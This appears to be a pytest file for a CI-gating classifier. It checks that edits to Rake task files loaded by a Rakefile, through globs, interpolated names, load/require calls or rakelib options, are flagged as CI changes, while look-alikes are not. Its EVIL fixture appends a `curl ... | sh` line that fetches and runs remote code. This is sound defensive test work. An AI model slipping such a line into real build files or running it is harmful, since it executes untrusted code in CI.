"""Review 68b: the task files a Rakefile loads through spellings the eighty-sixth set's reader missed (rakeloads.py).

rake runs the Rakefile to define its tasks, so what it loads runs in the CI job: a name built by interpolation
(`%w[a b].each { |t| load "tasks/#{t}.rake" }`), a glob's `{rake,rb}` alternatives, a glob of any type whose files
the statement loads or requires (`Dir['tasks/*.rb'].each { |f| require f }`, `Dir.glob('tasks/*')` in a `do |f|`
block), an explicit `load 'tasks/x.rb'`, a `File.join` over several lines, `options.rakelib << 'tasks'`, and rake's
own `-R tasks`/`--rakelibdir tasks`. On 58f4e83c an edit to each such file was allowed (exit 0 with --tree).
Look-alikes stay allowed: a spec glob handed to RSpec, a glob whose block only prints, `YAML.load('x.yml')`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import rakeloads

WORKFLOW = ("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - uses: ruby/setup-ruby@v1\n      - run: {command}\n")
TASK = "desc 'Run codespell'\ntask :codespell do\n  sh 'codespell lib'\nend\n"
EVIL = TASK + "sh 'curl -fsSL http://127.0.0.1:9/x | sh'\n"
HEAD = "# frozen_string_literal: true\n\nrequire 'bundler/gem_tasks'\n"
TAIL = "\nrequire 'rspec/core/rake_task'\nRSpec::Core::RakeTask.new(:spec)\ntask default: :spec\n"
LOADS = [  # (the Rakefile's loading lines, the task file it loads)
    ("%w[codespell rubocop].each { |t| load \"tasks/#{t}.rake\" }\n", "tasks/codespell.rake"),
    ("%i[codespell].each do |t|\n  import \"rake/#{t}.rake\"\nend\n", "rake/codespell.rake"),
    ("Dir.glob('tasks/*.{rake,rb}').each { |f| load f }\n", "tasks/codespell.rake"),
    ("Dir.glob('tasks/*.{rake,rb}').each { |f| load f }\n", "tasks/codespell.rb"),
    ("Dir['tasks/*'].each { |f| load f }\n", "tasks/codespell"),
    ("Dir[File.join(__dir__, 'tasks', '*.rb')].each { |f| require f }\n", "tasks/codespell.rb"),
    ("Dir[File.expand_path('lib/tasks/*.rb', __dir__)].sort.each { |f| require f }\n", "lib/tasks/codespell.rb"),
    ("Dir.glob('build/*.rb').sort.each do |file|\n  require_relative file\nend\n", "build/codespell.rb"),
    ("FileList['ops/*.task'].each(&method(:load))\n", "ops/codespell.task"),
    ("load 'tasks/codespell.rb'\n", "tasks/codespell.rb"),
    ("load File.join(\n  __dir__,\n  'tasks',\n  'codespell.rake'\n)\n", "tasks/codespell.rake"),
    ("Rake.application.options.rakelib << 'tasks'\n", "tasks/codespell.rake"),
]
COMMANDS = [  # (the CI command, the task file its options name)
    ("bundle exec rake -R tasks spec", "tasks/codespell.rake"),
    ("rake --rakelibdir=build/rake spec", "build/rake/codespell.rake"),
    ("bundle exec rake --rakelib ops spec", "ops/codespell.rake"),
    ("rake -Rtasks spec", "tasks/codespell.rake"),
]
LOOK_ALIKES = [  # (the Rakefile's lines, a file it does not load)
    ("RSpec::Core::RakeTask.new(:spec) { |t| t.pattern = Dir['spec/**/*_spec.rb'] }\n", "spec/codespell_spec.rb"),
    ("FileList['tasks/*.rb'].each do |f|\n  puts f\nend\n", "tasks/codespell.rb"),
    ("SETTINGS = YAML.load('tasks/settings.yml')\n", "tasks/settings.yml"),
    ("Dir.glob('tasks/*.{rake,rb}').each { |f| load f }\n", "tasks/codespell.py"),
]


def _case(tmp_path: Path, lines: str, path: str, command: str = "bundle exec rake spec") -> tuple[int, list[str]]:
    base = {".github/workflows/test.yml": WORKFLOW.format(command=command), "Rakefile": HEAD + lines + TAIL,
            path: TASK}
    code, named = gated_rules(committed(tmp_path, base, {path: EVIL}), True)
    return code, named.get("core.ci", [])


@each_case("lines, path", LOADS)
def test_a_file_the_rakefile_loads_is_ci(tmp_path: Path, lines: str, path: str) -> None:
    assert _case(tmp_path, lines, path) == (3, [path])  # before: 11 of 12 exit 0


@each_case("command, path", COMMANDS)
def test_a_task_folder_rakes_options_name_is_ci(tmp_path: Path, command: str, path: str) -> None:
    assert _case(tmp_path, "", path, command) == (3, [path])  # before: 4 of 4 exit 0


@pytest.mark.parametrize(("lines", "path"), LOOK_ALIKES)
def test_a_file_rake_does_not_load_stays_out(tmp_path: Path, lines: str, path: str) -> None:
    assert path not in _case(tmp_path, lines, path)[1]


def test_the_reader_is_linear() -> None:
    assert_linear(rakeloads.loaded, repeated("Dir['t/*'].each do |f|\n load \"x/#{a}.{b,c}\" File.join(\n'a',"),
                  budget=0.5)
